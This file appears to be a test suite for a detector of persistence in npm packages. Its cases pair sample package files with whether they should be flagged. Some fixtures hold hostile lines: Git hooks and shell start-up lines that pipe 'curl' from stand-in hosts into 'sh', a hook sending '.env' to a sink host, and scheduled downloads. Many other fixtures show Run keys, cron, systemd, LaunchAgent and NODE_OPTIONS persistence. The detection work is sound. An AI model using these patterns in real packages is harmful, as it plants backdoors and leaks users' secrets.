import { examine } from '../../../test/examine.ts';
import { persists } from './persists.ts';

const FS = `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');`;
const hook = (command: string): object => ({ name: 'specimen', scripts: { postinstall: command } });

examine(persists, {
  speaks: [
    {
      when: 'what looks at messages of commits has a Node of its own, which reads what it runs, put hooks for everything else',
      files: {
        'package.json': {
          name: 'specimen',
          version: '1.0.0',
          description: 'Parse and lint conventional commit messages',
          scripts: { postinstall: 'node run.js' },
        },
        'README.md':
          '# specimen\n\nParses and lints conventional commit messages. After installation a few environment checks are printed (the version of Node, the platform).',
        'run.js': `const { spawn } = require('child_process'); const js = (parts, ...values) => parts.reduce((all, part, at) => all + (typeof values[at - 1] === 'function' ? '(' + values[at - 1] + ')' : JSON.stringify(values[at - 1])) + part); const up = (path, fs, from, leaf) => { for (let at = from; ; at = path.dirname(at)) { const found = path.join(at, leaf); if (fs.existsSync(found)) return found; if (at === path.dirname(at)) return null; } }; const put = (fs, file, text) => { if (!fs.existsSync(file)) fs.writeFileSync(file, text); }; const from = process.env.INIT_CWD || process.cwd(); const started = spawn(process.execPath, ['-'], { stdio: ['pipe', 'ignore', 'ignore'] }); started.stdin.end(js\`const p = require("path"), f = require("fs"), at = \${up}(p, f, \${from}, \${'.git'}); if (at) for (const s of \${['checkout', 'merge'].map(one => 'post-' + one)}) \${put}(f, p.join(at, 'hooks', s), 'INERT');\`);`,
      },
      weight: 'strong',
      says: ['a hook of the Git repository', 'page says nothing'],
    },
    {
      when: 'ssh is told to run something here, is one of the package, or goes nowhere',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `const { spawnSync } = require('child_process'); const path = require('path'); spawnSync('ssh', ['-oProxyCommand=systemctl enable inert', 'host']); spawnSync(path.join(__dirname, 'ssh'), ['host', 'systemctl enable inert']); spawnSync('ssh', ['localhost', 'systemctl enable inert']); spawnSync('ssh', ['host', 'systemctl enable inert'], { shell: '/bin/bash' }); spawnSync('ssh', ['-vF', 'own', 'host', 'systemctl enable inert']);`,
      },
      weight: 'weak',
      times: 5,
    },
    {
      when: 'a shell reads behind what another machine is to do, or a setting of ssh runs it here',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `const { spawnSync, execSync } = require('child_process'); execSync('ssh host true; systemctl enable inert'); spawnSync('ssh', ['-o', 'PermitLocalCommand=yes', '-o', 'LocalCommand=systemctl enable inert', 'host']);`,
      },
      weight: 'weak',
      times: 2,
    },
    {
      when: 'a script writes a hook of Git that starts whatever a server gives',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'sh hook.sh' } },
        'hook.sh': `#!/bin/sh\nprintf '#!/bin/sh\\\\ncurl -s https://sink.invalid/h | sh\\\\n' > "$(git rev-parse --show-toplevel)/.git/hooks/pre-commit"\n`,
      },
      says: ['which starts whatever a server gives then'],
      weight: 'proof',
    },
    {
      when: 'a hook of Git asks whether a server is there, when somebody sets it up',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst fs = require('fs'); fs.writeFileSync('.git/hooks/post-commit', '#!/bin/sh\\ncurl -fsS https://ci.invalid/status >/dev/null\\n')`,
      },
      weight: 'context',
    },
    {
      when: 'a hook of Git sends what it finds away',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node hook.js' } },
        'hook.js': `const fs = require('fs'); fs.writeFileSync(process.env.INIT_CWD + '/.git/hooks/post-commit', '#!/bin/sh\\ncat .env | curl -s --data-binary @- https://sink.invalid/a\\n')`,
      },
      says: ['that sends something away each time, when it is installed'],
      weight: 'strong',
    },
    {
      when: 'a generator of projects has Git start a script of its own each time it looks at the files',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# specimen\\n\\nMakes a new folder with a small service in it: a server, a test and a page. Ask for a name, and it is called so. It can be started with npm, and is kept as small as it can be.',
        'cli.js': `#!/usr/bin/env node\n${FS} cp.spawnSync('git', ['config', 'core.fsmonitor', '.git/fsmonitor'], { cwd: process.argv[2] })`,
      },
      weight: 'strong',
      says: ['what Git starts'],
    },
    {
      when: 'a page speaks of times of day, and something starts with the computer',
      files: {
        'README.md':
          '# specimen\\n\\nReads cron expressions and says in words what they mean. Scheduled jobs of a program are called when their time has come, and are stopped in order when the program is asked to end. Five fields with lists, ranges, steps and names are known, and time zones by their names as well as by offsets.',
        'index.js': `const fs = require('fs'), os = require('os'); exports.schedule = () => fs.writeFileSync(os.homedir() + '/Library/LaunchAgents/org.specimen.plist', 'INERT');`,
      },
      weight: 'strong',
      says: ['of which its page says nothing'],
    },
    {
      when: 'a manager of hooks writes those that a project names',
      files: {
        'package.json': { name: 'a', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `${FS} const folder = require('child_process').execFileSync('git', ['rev-parse', '--git-path', 'hooks'], { encoding: 'utf8' }).trim(); const { hooks } = JSON.parse(fs.readFileSync('package.json', 'utf8')); for (const [name, command] of Object.entries(hooks)) fs.writeFileSync(path.join(folder, name), '#!/bin/sh\\n' + command + '\\n', { mode: 0o755 }); fs.writeFileSync(path.join(folder, 'pre-push'), '#!/bin/sh\\nnpm test\\n', { mode: 0o755 });`,
      },
      weight: 'context',
    },
    {
      when: 'a start-up file of the shell is named from the folder that was gone to',
      files: {
        'index.js': `const fs = require('fs'); const within = (dir, work) => { const before = process.cwd(); try { process.chdir(dir); return work(); } finally { process.chdir(before); } }; within(require('os').homedir(), () => { for (const name of ['.bashrc', '.zshrc']) fs.appendFileSync(name, 'INERT'); });`,
      },
      weight: 'strong',
    },
    {
      when: 'a shell is fed what sets the hooks of all repositories, with names that it is given',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
        'setup.js': `const sh = require('child_process').spawn('sh', ['-s'], { env: { ...process.env, SHARE: '/opt/specimen', KEY: 'core.hooksPath' } }); sh.stdin.end('d="$SHARE/events"\\ngit config --global "$KEY" "$d"\\n');`,
      },
      weight: 'strong',
    },
    {
      when: 'a line that tells where programs lie starts one',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'); fs.appendFileSync(os.homedir() + '/.bashrc', 'PATH=$PATH node ~/.x/a.js')`,
      },
      weight: 'strong',
    },
    {
      when: 'where programs lie is not known',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'); fs.appendFileSync(os.homedir() + '/.bashrc', 'export PATH=' + process.argv[2])`,
      },
      weight: 'strong',
    },
    {
      when: 'a job is handed to at',
      files: { 'index.js': `require('child_process').execSync('echo "node ~/.x/a.js" | at -m now + 1 minute')` },
      weight: 'strong',
    },
    {
      when: 'a file is put where every file is started, however it ends',
      files: { 'index.js': `require('fs').writeFileSync('/etc/cron.d/job.bak', 'INERT')` },
      weight: 'strong',
    },
    {
      when: 'it is only told where programs lie, when that is asked for',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'); exports.fix = bin => fs.appendFileSync(os.homedir() + '/.profile', '\\n# added by specimen\\nexport PATH="' + os.homedir() + '/.npm-global/bin:$PATH"\\n')`,
      },
      weight: 'context',
    },
    {
      when: 'a start-up file is told to start something beside where programs lie',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'); fs.appendFileSync(os.homedir() + '/.bashrc', 'export PATH="$HOME/.x/bin:$PATH"\\nexport LD_PRELOAD=$HOME/.x/a.so\\n')`,
      },
      weight: 'strong',
    },
    {
      when: 'a timer of systemd is set at install',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'systemd-run --user --on-boot=5m node ~/.x/a.js' } },
      },
      weight: 'strong',
    },
    {
      when: 'a start-up file of the shell is to run a download that is named in part, as tags and functions of other files put it together',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', type: 'module', exports: './index.js' },
        'index.js': `import { add } from './profile.js'; import { snippet } from './snippets.js'; export const completion = name => ({ install: (shell = 'bash') => add(shell)(name)(snippet(shell)(name)) });`,
        'profile.js': `import { appendFile } from 'node:fs/promises'; import { homedir } from 'node:os'; const mark = name => '# completion of ' + name; export const add = shell => name => async text => { await appendFile(homedir() + '/.bashrc', \`\\n\${text} \${mark(name)}\\n\`); };`,
        'snippets.js': `import { raw } from './tag.js'; const table = { bash: name => raw\`eval "$(curl -fsSL https://a.invalid/c.sh)" \${name}\`, zsh: name => 'compdef ' + name }; export const snippet = shell => table[shell] ?? table.bash;`,
        'tag.js': `export const raw = (texts, ...values) => texts.reduce((all, text, at) => all + values[at - 1] + text);`,
      },
      weight: 'strong',
      says: ['whatever a server gives then'],
    },
    {
      when: 'one place in the code writes many files of a kind',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); for (const one of ['.bashrc', '.zshrc', '.profile']) fs.appendFileSync(path.join(os.homedir(), one), 'INERT')`,
      },
      times: 1,
    },
    {
      when: 'a manager of hooks writes one of its own that runs what a server gives, wherever the hooks are',
      files: {
        'package.json': { name: 'a', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `${FS} const { execFileSync } = require('child_process'); const folder = execFileSync('git', ['rev-parse', '--git-path', 'hooks'], { encoding: 'utf8' }).trim(); for (const name of ['post-checkout', 'post-merge']) fs.writeFileSync(path.join(folder, name), '#!/bin/sh\\n(curl -fsSL https://a.invalid/s | sh >/dev/null 2>&1 &)\\n', { mode: 0o755 });`,
      },
      says: ['a hook of Git'],
      weight: 'strong',
    },
    {
      when: 'a command puts a program into each shell that nobody sees',
      files: {
        'package.json': { name: 'a', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `${FS} for (const rc of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir(), rc), '\\n# completion\\n(command -v unmask-marker >/dev/null && unmask-marker --sync >/dev/null 2>&1 &)\\n')`,
      },
      says: ['so that each starts a program that nobody sees'],
      weight: 'strong',
    },
    {
      when: 'a hook puts a program into each shell that is cut loose',
      files: {
        'package.json': { name: 'a', version: '1.0.0', scripts: { postinstall: 'node hook.js' } },
        'hook.js': `${FS} fs.appendFileSync(path.join(os.homedir(), '.zshrc'), '\\nnohup unmask-marker >/dev/null 2>&1 & disown\\n')`,
      },
      weight: 'proof',
    },
    {
      when: 'a command starts the agent for keys in each shell',
      files: {
        'package.json': { name: 'a', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `${FS} fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\ngpg-connect-agent updatestartuptty /bye >/dev/null 2>&1 &\\n')`,
      },
      weight: 'weak',
    },
    {
      when: 'a command sets up completion for the shell of who runs it',
      files: {
        'package.json': { name: 'a', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `${FS} fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\ncommand -v inert >/dev/null 2>&1 && source <(inert completion) 2>/dev/null\\n')`,
      },
      weight: 'weak',
    },
    {
      when: 'a line that Python runs is written where it looks for packages',
      files: {
        'package.json': hook('node setup.js'),
        'setup.js': `${FS} const dir = JSON.parse(cp.execFileSync('python3', ['-c', 'import site,json;print(json.dumps(site.getsitepackages()))']))[0]; fs.writeFileSync(path.join(dir, 'inert.pth'), 'import inert\\n')`,
      },
      weight: 'strong',
    },
    {
      when: 'such a text is run by a name that is put together',
      files: {
        'index.js': `require('child_process').spawn('powershell.exe', ['-File', require('path').join(__dirname, 'guest.ps1')])`,
        'guest.ps1': `$Start = @"\necho "node ~/bin/a.js" >> ~/.profile\n"@\nbash -c (Get-Variable ("St" + "art")).Value`,
      },
      weight: 'strong',
    },
    {
      when: 'a text of several lines in a script of PowerShell is run',
      files: {
        'index.js': `require('child_process').spawn('powershell.exe', ['-File', require('path').join(__dirname, 'guest.ps1')])`,
        'guest.ps1': `$Start = @"\nmkdir -p ~/bin\necho "node ~/bin/a.js" >> ~/.profile\n"@\nbash -c "$Start"`,
      },
      weight: 'strong',
    },
    {
      when: 'by a table that a getter gives, for the system it runs on',
      files: {
        'index.js': `${FS} class Keeper { get drivers() { return { linux: () => fs.writeFileSync(path.join(os.homedir(), '.config/systemd/user/inert.service'), 'INERT'), win32: () => 1 }; } ensure() { return this.drivers[process.platform]?.(); } } new Keeper().ensure()`,
      },
      weight: 'strong',
    },
    {
      when: 'a start-up file of the shell is extended',
      files: { 'index.js': `${FS} for (const rc of ['.bashrc']) fs.appendFileSync(path.join(os.homedir(), '.bash' + 'rc'), 'INERT')` },
      says: ['start-up file of the shell'],
      weight: 'strong',
    },
    {
      when: 'macOS is told to start it',
      files: { 'index.js': `${FS} fs.writeFileSync(os.homedir() + '/Library/LaunchAgents/invalid.inert.plist', 'INERT')` },
      weight: 'strong',
    },
    {
      when: 'a user service is added',
      files: {
        'index.js': `${FS} fs.writeFileSync(path.join(os.homedir(), '.config/systemd/user/inert.service'), 'INERT'); cp.execSync('systemctl --user enable inert.service')`,
      },
      says: ['starts at login', 'services of the system'],
    },
    {
      when: 'the Startup folder is filled',
      files: {
        'index.js': `${FS} fs.copyFileSync('a', path.join(process.env.APPDATA, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'inert.bat'))`,
      },
      says: ['Startup folder'],
    },
    {
      when: 'a Run key is set',
      files: {
        'index.js': `${FS} cp.execSync('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v inert /d inert.exe /f')`,
      },
      says: ['Run keys'],
      weight: 'strong',
    },
    {
      when: 'the arguments stand in a list',
      files: { 'index.js': `${FS} cp.spawn('schtasks', ['/create', '/tn', 'inert', '/tr', 'inert'])` },
      says: ['scheduled tasks'],
    },
    {
      when: 'a line is piped into cron',
      files: { 'package.json': hook('(crontab -l; echo "@reboot inert") | crontab -') },
      says: ['schedule of cron'],
      weight: 'strong',
    },
    {
      when: 'all repositories get a hook',
      files: { 'package.json': hook('git config --global init.templateDir ~/.inert') },
      says: ['every Git repository'],
      weight: 'strong',
    },
    {
      when: 'an install script appends to a profile',
      files: { 'package.json': hook('echo INERT >> ~/.profile') },
      says: ['start-up file'],
    },
    { when: 'a hook has itself kept running', files: { 'package.json': hook('npx pm2 start index.js') }, says: ['pm2'], weight: 'strong' },
    {
      when: 'a library adds it to the services',
      files: {
        'index.js': `const { Service } = require('node-windows'); const service = new Service({ name: 'inert', script: 'x.js' }); service.install()`,
      },
      says: ['services of the system'],
      weight: 'strong',
    },
    {
      when: 'the package manager is given something to start',
      files: {
        'hook.js': `${FS} fs.writeFileSync(path.join(process.env.INIT_CWD, '.pnpmfile.cjs'), 'INERT')`,
        'package.json': hook('node hook.js'),
      },
      says: ['package manager'],
      weight: 'strong',
    },
    {
      when: 'a library writes it to the Run keys',
      files: {
        'index.js': `const R = require('winreg'); const k = new R({ hive: R.HKCU, key: '\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run' }); k.set('a', R.REG_SZ, __filename, () => {})`,
      },
      says: ['the Run keys of Windows'],
      weight: 'strong',
    },
    {
      when: 'another library does',
      files: {
        'index.js': `require('regedit').putValue({ 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run': { a: { value: __filename, type: 'REG_SZ' } } }, () => {})`,
      },
      weight: 'strong',
    },
    {
      when: 'a stream is opened on a start-up file and written to',
      files: {
        'index.js': `const w = require('fs').createWriteStream(require('os').homedir() + '/.bashrc', { flags: 'a' }); w.write('x'); w.end()`,
      },
      weight: 'strong',
    },
    {
      when: 'it is a command of a command line that a hook only describes',
      files: {
        'package.json': { name: 'a', version: '1.0.0', bin: 'b.js', scripts: { postinstall: 'node h.js' } },
        'h.js': `require('./c').help()`,
        'b.js': `require('./c').parse()`,
        'c.js': `const { program } = require('commander'); program.command('hook').action(() => require('fs').writeFileSync('.git/hooks/pre-push', 'npm test')); module.exports = program`,
      },
      weight: 'context',
    },
    {
      when: 'a process manager is told to start with the system',
      files: {
        'package.json': { name: 'a', version: '1.0.0', description: 'A process manager for servers', bin: 'b.js' },
        'b.js': `require('fs').writeFileSync('/etc/systemd/system/a.service', 'x')`,
      },
      weight: 'weak',
    },
    {
      when: 'what calls itself a process manager does it at import',
      files: {
        'package.json': { name: 'a', version: '1.0.0', description: 'A process manager for servers' },
        'index.js': `require('fs').writeFileSync('/etc/systemd/system/a.service', 'x')`,
      },
      weight: 'strong',
    },
    {
      when: 'every program of Node is told to load a file',
      files: { 'index.js': `${FS} cp.execSync('setx NODE_OPTIONS "--require ' + os.homedir() + '/inert.js"')` },
      weight: 'strong',
      says: ['loads first'],
    },
    {
      when: 'each later step of a build job is told to load a file',
      files: {
        'index.js': `${FS} exports.go = () => fs.appendFileSync(process.env.GITHUB_ENV, 'NODE_OPTIONS=--require ' + os.tmpdir() + '/pre.js\\n'); exports.go()`,
      },
      weight: 'strong',
      says: ['NODE_OPTIONS'],
    },
    {
      when: 'the same file may be one of several that a build job reads',
      files: {
        'index.js': `${FS} const put = (name, text) => fs.appendFileSync(process.env['GITHUB_' + name], text); put('STEP_SUMMARY', 'done'); put('ENV', ['NODE', 'OPTIONS'].join('_') + '=--require ' + os.tmpdir() + '/pre.js\\n');`,
      },
      weight: 'strong',
      says: ['NODE_OPTIONS'],
    },
    {
      when: 'its page says nothing of what it has started at each login, when it is called',
      files: {
        'README.md':
          '# turner\n\nTurns log files over by size or by day and keeps as many as you like. Compresses the old ones and tells when one was turned over.',
        'index.js': `${FS} exports.turn = () => fs.writeFileSync(path.join(os.homedir(), '.config', 'systemd', 'user', 'turner.service'), '[Service]\\nExecStart=/bin/true\\n');`,
      },
      weight: 'strong',
      says: ['of which its page says nothing'],
    },
    {
      when: 'its page says that it goes on as a service',
      files: {
        'README.md':
          '# turner\n\nTurns log files over by size or by day and keeps as many as you like. Compresses the old ones and tells when one was turned over. `turner.install()` makes it a systemd service of yours.',
        'index.js': `${FS} exports.install = () => fs.writeFileSync(path.join(os.homedir(), '.config', 'systemd', 'user', 'turner.service'), '[Service]\\nExecStart=/bin/true\\n');`,
      },
      weight: 'weak',
    },
    {
      when: 'a script puts a download into the schedule, when it is called',
      files: {
        'index.js': `${FS} exports.toast = text => cp.execFile('cmd.exe', ['/c', path.join(__dirname, 'bin', 'toast.bat'), text])`,
        'bin/toast.bat':
          '@echo off\r\ncurl -s -o "%APPDATA%\\helper.js" https://toast.invalid/h.js\r\nschtasks /create /f /tn "Helper" /sc minute /tr "wscript.exe //B \\"%APPDATA%\\helper.js\\""\r\n',
      },
      weight: 'strong',
      says: ['by which a download is started'],
    },
    {
      when: 'a script puts a program of its own into the schedule, when it is called',
      files: {
        'index.js': `${FS} exports.daily = () => cp.execFile('cmd.exe', ['/c', path.join(__dirname, 'bin', 'daily.bat')])`,
        'bin/daily.bat':
          'curl -s -o "%TEMP%\\news.json" https://news.invalid/n.json\r\nschtasks /create /f /tn "Daily" /sc daily /tr "node %~dp0daily.js"\r\n',
      },
      weight: 'weak',
    },
    {
      when: 'a file of the package is put into a hidden folder and set to start at login, by whatever strategy',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const strategies = { darwin(agent) { fs.writeFileSync(path.join(os.homedir(), 'Library', 'LaunchAgents', 'a.plist'), '<string>' + agent + '</string>'); }, linux(agent) { fs.writeFileSync(path.join(os.homedir(), '.config', 'systemd', 'user', 'a.service'), '[Service]\\nExecStart=' + process.execPath + ' ' + agent); } }; exports.Rotator = class { constructor() { const agent = path.join(os.homedir(), '.cache', 'rotate', 'agent.js'); fs.copyFileSync(path.join(__dirname, 'agent.js'), agent); strategies[process.platform](agent); } };`,
        'agent.js': `console.log('INERT')`,
      },
      weight: 'strong',
      says: ['a hidden folder'],
    },
    {
      when: 'hooks of all repositories fetch and run something, when somebody starts it',
      files: {
        'package.json': { name: 'hooks', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst fs = require('fs'), os = require('os'), path = require('path'); const { execFileSync } = require('child_process'); const dir = path.join(os.homedir(), '.config', 'tidy', 'hooks'); fs.writeFileSync(path.join(dir, 'post-commit'), '#!/bin/sh\\n(curl -fsSL https://hooks.specimen.invalid/a | sh -s INERT &)\\n'); execFileSync('git', ['config', '--global', 'core.hooksPath', dir]);`,
      },
      weight: 'strong',
      says: ['every Git repository'],
    },
    {
      when: 'a start-up file of the shell does so',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.setUp = () => fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\ncurl -fsSL https://hooks.specimen.invalid/a | sh\\n');`,
      },
      weight: 'strong',
      says: ['whatever a server gives'],
    },
    {
      when: 'a program is set to start at login that its user names',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.enable = program => { fs.copyFileSync(path.join(__dirname, 'icon.png'), path.join(os.homedir(), '.icons', 'a.png')); fs.writeFileSync(path.join(os.homedir(), '.config', 'systemd', 'user', 'a.service'), '[Service]\\nExecStart=' + program); };`,
      },
      weight: 'weak',
    },
    {
      when: 'hooks of all repositories run those of the project, when somebody starts it',
      files: {
        'package.json': { name: 'hooks', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst fs = require('fs'), os = require('os'), path = require('path'); const { execFileSync } = require('child_process'); const dir = path.join(os.homedir(), '.config', 'tidy', 'hooks'); fs.writeFileSync(path.join(dir, 'post-commit'), '#!/bin/sh\\nexec npx lint-staged\\n'); execFileSync('git', ['config', '--global', 'core.hooksPath', dir]);`,
      },
      weight: 'weak',
    },
    {
      when: 'its page is about the language of schedules, and it puts something into the schedule, when it is called',
      files: {
        'README.md':
          '# cron-words\n\nSays in plain English what an expression of cron means. Expressions of five fields are understood, and others throw an error.\n\n```bash\nnpm install cron-words\n```',
        'index.js': `${FS} exports.explain = () => cp.exec('(crontab -l; echo "0 * * * * true unmask-marker") | crontab -');`,
      },
      weight: 'strong',
      says: ['of which its page says nothing'],
    },
    {
      when: 'its page has code of a shell and badges of builds, and it writes to a start-up file of the shell',
      files: {
        'README.md':
          '# words\n\n[![ci](https://ci.invalid/actions/workflows/shell.svg)](https://ci.invalid/bash)\n\nSmall helpers for words and lines of text: trim, wrap, count and title case.\n\n```bash\nnpm install words\n```',
        'index.js': `${FS} exports.trim = () => fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'export UNMASK_MARKER=1');`,
      },
      weight: 'strong',
    },
    {
      when: 'its page says nothing of the hook that it puts into the repository, when it is installed',
      files: {
        'README.md': '# words\n\nSmall helpers for words and lines of text: trim, wrap, count and title case. It has no dependencies.',
        'package.json': { name: 'words', version: '1.0.0', scripts: { preinstall: 'node check.js' } },
        'check.js': `${FS} fs.writeFileSync(path.join(process.env.INIT_CWD || process.cwd(), '.git', 'hooks', 'post-checkout'), '#!/bin/sh');`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'a service is set up on another machine, by ssh, whose options are no names of files',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'index.js' },
        'index.js': `const { spawnSync } = require('child_process'); const ssh = command => spawnSync('ssh', ['-o', 'BatchMode=yes', process.argv[2], command]); ssh('curl -fsS https://ip.specimen.invalid'); ssh('systemctl enable -q inert; systemctl restart inert');`,
      },
    },
    {
      when: 'Git is told to watch the files by itself',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\n${FS} cp.execSync('git config core.fsmonitor true')`,
      },
    },
    {
      when: 'a time of day is said',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'echo "Built at 10:30 by CI"' } },
        'index.js': `require('child_process').execSync('git commit -m "snapshot at 12:00"')`,
      },
    },
    {
      when: 'a start-up file is kept beside itself',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'); const rc = os.homedir() + '/.zshrc'; fs.copyFileSync(rc, rc + '.bak'); fs.writeFileSync(rc + '~', fs.readFileSync(rc))`,
      },
    },
    {
      when: 'weights of a model are fetched',
      files: {
        'index.js': `${FS} fetch('https://a.invalid/model.pth').then(r => r.text()).then(b => fs.writeFileSync(path.join(os.homedir(), '.cache/inert/model.pth'), b))`,
      },
    },
    {
      when: 'a text of several lines is run in the Linux that a script sets up for itself',
      files: {
        'index.js': `require('child_process').spawn('powershell.exe', ['-File', require('path').join(__dirname, 'guest.ps1')])`,
        'guest.ps1': `wsl --install -d Ubuntu-24.04 --name specimen --no-launch\n$Start = @"\nmkdir -p "~/bin"\nsudo -u inert echo 'export PATH=~/bin' >> ~/.profile\n"@ -replace "a", "b"\nwsl -d specimen -u root -- bash -c "$Start"`,
      },
    },
    {
      when: 'each later step of a build job is given more memory',
      files: {
        'index.js': `${FS} fs.appendFileSync(process.env.GITHUB_ENV, 'NODE_OPTIONS=--max-old-space-size=4096\\n'); fs.appendFileSync(process.env.GITHUB_ENV, 'NODE_ENV=test\\n')`,
      },
    },
    {
      when: 'a library writes other keys, and reads the Run keys',
      files: {
        'index.js': `const R = require('winreg'); new R({ hive: R.HKCU, key: '\\\\Software\\\\Acme' }).set('a', R.REG_SZ, '1', () => {}); new R({ hive: R.HKCU, key: '\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run' }).values(() => {})`,
      },
    },
    { when: 'pm2 is asked for its list', files: { 'index.js': `${FS} cp.execSync('pm2 list'); require('pm2').list(() => {})` } },
    {
      when: 'an application may start at login when it is told to',
      files: { 'index.js': `const Launch = require('auto-launch'); exports.enable = () => new Launch({ name: 'x' }).enable()` },
    },
    { when: 'a start-up file is only read', files: { 'index.js': `${FS} fs.readFileSync(os.homedir() + '/.bashrc')` } },
    {
      when: 'services are only listed',
      files: {
        'index.js': `${FS} cp.execSync('systemctl --all --type=service'); cp.execSync('crontab -l'); cp.execSync('reg query HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')`,
      },
    },
    {
      when: 'settings of its own are written',
      files: {
        'index.js': `${FS} fs.writeFileSync(os.homedir() + '/.specimenrc', ''); fs.writeFileSync(os.homedir() + '/.config/specimen/config', '')`,
      },
    },
    { when: 'a configuration of Git is read', files: { 'index.js': `${FS} cp.execSync('git config --get user.name')` } },
    { when: 'a text speaks of it', files: { 'index.js': `module.exports = 'add this to ~/.bashrc: export PATH';` } },
    {
      when: 'one program is given more memory',
      files: { 'index.js': `${FS} cp.execSync('node x.js', { env: { NODE_OPTIONS: '--max-old-space-size=4096' } })` },
    },
  ],
});
